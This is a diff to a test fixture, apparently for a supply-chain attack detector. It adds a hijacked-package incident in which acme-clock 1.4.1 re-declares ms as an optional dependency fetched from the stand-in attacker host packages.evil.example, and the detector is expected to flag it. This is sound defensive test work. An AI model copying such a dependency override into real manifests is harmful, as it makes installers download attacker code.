@@ -177,6 +177,34 @@ const eventStream: Incident = {
   },
 };
 
+/** What clients take is the optional one of the two: the harmless line stays for reviewers to see. */
+const overridden: Incident = {
+  id: 'overridden-dependency',
+  title: 'a hijacked account names a dependency a second time, as an optional one from an address',
+  at: '2026-04-20T10:00:00Z',
+  after: '3h',
+  expected: 'fail',
+  rules: ['new-young-dependency', 'recent-release'],
+  npm: [
+    {
+      name: 'acme-clock',
+      earlier: used('1.0.0 1.1.0 1.2.0 1.3.0'),
+      usual: { dependencies: { ms: '^2.1.3' } },
+      releases: [
+        { version: '1.4.0', when: '-60d' },
+        { version: '1.4.1', when: '0', optionalDependencies: { ms: 'http:packages.evil.example/ms.tgz' } },
+      ],
+    },
+    { name: 'ms', earlier: used('1.0.0 2.0.0 2.1.0'), releases: [{ version: '2.1.3', when: '-1700d' }] },
+  ],
+  change: {
+    as: 'package-lock',
+    before: { 'acme-clock': '1.4.0' },
+    after: { 'acme-clock': '1.4.1' },
+    with: { before: { ms: '2.1.3' }, after: { ms: '2.1.3' } },
+  },
+};
+
 /** One account, three release lines at once, each with a script that fetches a program. */
 const uaParser: Incident = {
   id: 'ua-parser-like',
@@ -219,5 +247,6 @@ export const hijacks: readonly Incident[] = [
   axios('1', '1.14.0', '1.14.1'),
   axios('0', '0.30.3', '0.30.4'),
   eventStream,
+  overridden,
   uaParser,
 ];
